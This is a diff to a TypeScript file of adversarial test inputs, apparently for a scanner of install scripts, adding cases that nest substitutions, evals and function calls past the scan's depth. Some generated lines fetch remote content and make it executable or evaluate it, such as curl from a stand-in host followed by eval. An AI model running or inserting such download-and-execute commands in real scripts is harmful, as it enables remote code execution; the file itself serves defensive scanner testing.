@@ -3,7 +3,8 @@
  * a file name and a maker of about `bytes` of content aimed at one rule — thousands of downloads
  * each run, long nested inline calls, long lines of each rule's trigger, variables whose values
  * would grow without bound if substituted without a budget, archives unpacked into deep folders,
- * here-documents never ended.
+ * here-documents never ended, substitutions, evals and function calls nested past the depth the
+ * scan reads.
  */
 
 /** `unit` repeated between `head` and `tail`, to at most `bytes` (ASCII) in all. */
@@ -50,5 +51,12 @@ export const ADVERSARIAL_CASES: readonly AdversarialCase[] = [
   ['node calls all along one line', 'INSTALL.js', (n) => fill(`execFileSync('a', [tar.x({ file: require('./x', fetch( writeFileSync(X `, n)],
   ['a python program of thousands of constants, each made executable', 'INSTALL.py', (n) => lines((i) => (i % 2 === 0 ? `P${i} = '/tmp/p${i}'` : `os.chmod(P${i - 1}, 0o755)`), n)],
   ['a python program writing thousands of files, then downloading', 'INSTALL.py', (n) => lines((i) => `open('f${i}', 'w').write(x)`, n - 32) + '\nurlopen(u)\n'],
+  ['command substitutions opened all along one line, never closed', 'INSTALL', (n) => fill('sh -c "$(', n)],
+  ['substitutions nested six deep, all along one line', 'INSTALL', (n) => fill('eval "$(a "$(b `c $(d "$(e $(f x))")`)")" ', n)],
+  ['eval after eval all along one line', 'INSTALL', (n) => fill('eval ', n)],
+  ['functions each calling the last twice, each called', 'INSTALL', (n) => lines((i) => (i === 0 ? 'f0() { curl -fsSLo t https://x.example/t; chmod +x t; }' : `f${i}() { f${i - 1} "$@"; f${i - 1} "$@"; }; f${i} a b`), n)],
+  ['a long function called on every line after it', 'INSTALL', (n) => lines((i) => (i === 0 ? 'f() {' : i < 2000 ? `  cp "$1" "$2/x${i}"` : i === 2000 ? '}' : 'f a b'), n)],
+  ['here-documents opened in substitutions all along one line', 'INSTALL', (n) => fill('x "$(cat <<A ', n, '', '\nA\n')],
+  ['downloads read into variables, each evaluated', 'INSTALL', (n) => lines((i) => `s${i}=$(curl -fsSL https://x.example/${i}); eval "$s${i}"`, n)],
   ['sk- without the OpenAI marker', 'payload/keys.txt', (n) => fill('sk-', n)],
 ];
